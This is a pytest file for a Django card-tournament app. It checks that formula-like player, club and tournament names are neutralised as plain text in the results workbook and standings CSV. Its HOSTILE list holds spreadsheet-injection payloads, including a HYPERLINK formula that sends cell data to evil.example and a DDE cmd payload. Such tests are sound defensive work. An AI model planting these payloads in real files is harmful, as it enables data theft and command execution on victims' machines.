"""Formula injection in the downloads: hostile names become live formulas.

A player, club or tournament named ``=HYPERLINK(...)``, ``=1+1``, ``=cmd|...``, ``+1``, ``-1``, ``@SUM(A1)`` or
starting with a tab or carriage return must reach the committee's workbook and the standings CSV as plain text,
while numbers (a negative total too) stay numbers. The files are read back the way a spreadsheet would read them.
"""

import csv
import io
from io import BytesIO

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from common.spreadsheets import is_formula_like, spreadsheet_cell
from scoring.committee.xlsx import results_workbook
from scoring.results import tournament_results
from seating.models import Player, Table, Tournament
from seating.services import tournament_draw
from tests.scoring.committee.test_results import enter

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "=1+1", '=cmd|" /C calc"!A0', "+1", "-1",
           "@SUM(A1)", "\t=1+1", "\r=1+1", " =1+1", "＝1+1"]


def hostile_tournament() -> Tournament:
    tournament = Tournament.objects.create(name="=1+1")
    names = HOSTILE + [f"Player {n}" for n in range(12 - len(HOSTILE))]
    Player.objects.bulk_create([Player(tournament=tournament, name=name, club=HOSTILE[-1 - i % len(HOSTILE)])
                                for i, name in enumerate(names)])
    tournament_draw(tournament=tournament, seed=11)
    for table in Table.objects.select_related("tournament", "section").filter(tournament=tournament):
        enter(table, 1, (0, 0))  # a won game: a positive score
        enter(table, 2, (3, 1))  # a lost Gucki Grand: a negative score
    return tournament


def test_the_one_rule_leaves_numbers_alone_and_neutralises_formula_like_text():
    assert spreadsheet_cell(-120) == -120 and spreadsheet_cell(3.5) == 3.5 and spreadsheet_cell(None) is None
    assert spreadsheet_cell("Anna Müller") == "Anna Müller"
    for text in HOSTILE:
        assert is_formula_like(text), text
        assert spreadsheet_cell(text) == "'" + text
    assert spreadsheet_cell("Bad\x01name") == "Badname"


@pytest.mark.django_db
def test_the_results_workbook_holds_every_name_as_text_and_every_figure_as_a_number():
    tournament = hostile_tournament()
    workbook = load_workbook(BytesIO(results_workbook(tournament_results(tournament))))
    texts, numbers = [], []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    assert not is_formula_like(cell.value), f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
                    texts.append(cell.value)
                elif cell.value is not None:
                    numbers.append(cell.value)
    for name in HOSTILE:
        assert "'" + name.replace("\r", "\n") in texts  # shown as the text it is (XML reads a CR as a newline)
    assert any(isinstance(n, int) and n < 0 for n in numbers)  # a negative score stays a number cell


@pytest.mark.django_db
def test_the_downloaded_workbook_is_the_neutralised_one(admin_client):
    tournament = hostile_tournament()
    response = admin_client.get(f"/committee/{tournament.pk}/results.xlsx")
    assert response.status_code == 200
    names = [cell.value for cell in load_workbook(BytesIO(response.content))["Standings"]["B"]]
    assert "'=1+1" in names and "=1+1" not in names


@pytest.mark.django_db
def test_a_control_character_in_a_name_does_not_break_the_workbook():
    tournament = hostile_tournament()
    Player.objects.filter(tournament=tournament, name="Player 0").update(name="Player\x01 0")
    workbook = load_workbook(BytesIO(results_workbook(tournament_results(tournament))))
    assert "Player 0" in [cell.value for cell in workbook["Standings"]["B"]]


@pytest.mark.django_db
def test_the_standings_csv_holds_no_formula_and_keeps_negative_totals_numeric():
    tournament = hostile_tournament()
    out = io.StringIO()
    call_command("standings", str(tournament.pk), "--format", "csv", stdout=out)
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    header, body = rows[0], rows[1:]
    for row in body:
        for value in row:
            assert _is_number(value) or not is_formula_like(value), row
    names = [row[header.index("name")] for row in body]
    for name in HOSTILE:
        assert "'" + name in names
    totals = [int(row[header.index("total")]) for row in body]  # a number a spreadsheet reads as one
    assert min(totals) < 0


def _is_number(value: str) -> bool:
    try:
        int(value)
    except ValueError:
        return False
    return value.strip() == value
